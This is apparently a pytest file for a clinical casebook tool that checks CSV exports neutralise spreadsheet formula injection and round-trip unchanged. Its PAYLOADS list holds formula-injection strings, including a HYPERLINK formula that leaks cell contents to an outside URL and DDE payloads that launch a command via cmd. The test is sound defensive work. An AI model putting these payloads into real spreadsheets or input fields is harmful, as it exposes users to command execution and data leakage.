"""Every CSV casebook writes is safe to open in a spreadsheet, and reads back unchanged.

The payloads are the outside probe's (issue 21): each would run as a formula in Excel,
LibreOffice or Google Sheets if a cell started with it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from casebook.cli import main
from casebook.clinic import ClinicFilter, ClinicSession, store_worklist, to_csv
from casebook.interop import import_patients_csv
from casebook.interop.csv_write import FORMULA_START, escape_cell, frame_to_csv, unescape_cell
from casebook.store import CaseStore, import_cases
from tests.clinic.cases import TODAY, V, days, make_case

PAYLOADS = [
    '=HYPERLINK("http://x"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
NAMES = ["-Smith", "+Jones", "=1+1", "@home", '=HYPERLINK("http://x"&A1,"x")']


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _unsafe(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula start that is not a plain number (-10.0)."""
    return [c for row in rows for c in row if c[:1] in tuple(FORMULA_START) and not _number(c)]


@pytest.mark.parametrize(
    "text",
    [*PAYLOADS, *NAMES, "'=1+1", "''=1+1", "'plain", "'", "", "plain", "'\t=1", "-", "a=b"],
)
def test_the_reader_undoes_exactly_what_the_writer_did(text: str) -> None:
    written = escape_cell(text)
    assert written[:1] not in tuple(FORMULA_START)
    assert unescape_cell(written) == text


def test_payloads_start_with_a_quote_and_numbers_stay_numbers() -> None:
    df = pd.DataFrame(
        {
            "name": PAYLOADS,
            "change": [-2.5, -1.0, 0.0, 3.0, -7.25, 1.5],
            "count": [-1, 2, -3, 4, -5, 6],
            "mixed": [-2.5, "-2+3", None, 4, "=A1", "x"],
        }
    )
    rows = _cells(frame_to_csv(df))
    assert rows[0] == ["name", "change", "count", "mixed"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == ["-2.5", "-1.0", "0.0", "3.0", "-7.25", "1.5"]
    assert [r[2] for r in rows[1:]] == ["-1", "2", "-3", "4", "-5", "6"]
    assert [r[3] for r in rows[1:]] == ["-2.5", "'-2+3", "", "4", "'=A1", "x"]
    assert rows[1 + PAYLOADS.index("\t=1+1")][0] == "'\t=1+1"  # the tab stays behind the quote


def _probe_cases() -> list:
    plan = [
        {
            "category": "herbal",
            "name": p.strip() or "x",
            "status": "active",
            "start": days(60),
            "end": days(-3),  # ending soon: a follow-up row whose detail names the item
        }
        for p in PAYLOADS
    ]
    return [
        make_case(f"csv-{i}", [V(60, 20), V(5, 10)], name=name, plan=plan)
        for i, name in enumerate(PAYLOADS)
    ]


def test_worklist_csv_and_the_clinic_export_have_no_cell_a_spreadsheet_would_run(
    sqlite_store: CaseStore, sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import_cases(sqlite_store, _probe_cases())
    frame = store_worklist(sqlite_store, today=TODAY)
    rows = _cells(to_csv(frame))
    assert len(rows) > len(PAYLOADS) and _unsafe(rows) == []
    names = {unescape_cell(r[1]) for r in rows[1:]}
    assert {p.strip() for p in PAYLOADS} <= names  # the model strips a leading tab or CR
    details = " ".join(unescape_cell(r[4]) for r in rows[1:])
    assert "+cmd|' /C calc'!A0" in details

    assert main(["--db", sqlite_url, "worklist", "--format", "csv"]) == 0
    assert _unsafe(_cells(capsys.readouterr().out)) == []
    assert main(["--db", sqlite_url, "outcomes", "--format", "csv", "--deidentify"]) == 0
    assert _unsafe(_cells(capsys.readouterr().out)) == []

    export = tmp_path / "export"
    export.mkdir()
    session = ClinicSession(sqlite_store, ClinicFilter(), export_dir=export, today=TODAY)
    for path in session.export():
        assert _unsafe(_cells(path.read_text(encoding="utf-8"))) == [], path.name


def test_a_patient_list_round_trips_through_export_then_import(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "in.csv"
    rows = [(f"p{i}", n, f"1980-01-0{i + 1}", "female") for i, n in enumerate(NAMES)]
    frame = pd.DataFrame(rows, columns=["patient_id", "name", "birth_date", "sex"])
    source.write_text(frame_to_csv(frame), encoding="utf-8")
    assert main(["--db", sqlite_url, "init", "--no-kernel"]) == 0
    assert main(["--db", sqlite_url, "import", "patients", str(source)]) == 0
    capsys.readouterr()
    assert main(["--db", sqlite_url, "patients", "--format", "csv"]) == 0
    exported = capsys.readouterr().out
    assert _unsafe(_cells(exported)) == []
    again = tmp_path / "out.csv"
    again.write_text(exported, encoding="utf-8")
    other = CaseStore(f"sqlite:///{tmp_path / 'other.db'}", create=True, actor="tester")
    try:
        import_patients_csv(other, again)
        assert sorted(p.name for p in other.patients()) == sorted(NAMES)
        assert import_patients_csv(other, again).created == 0  # unchanged: nothing new
    finally:
        other.close()
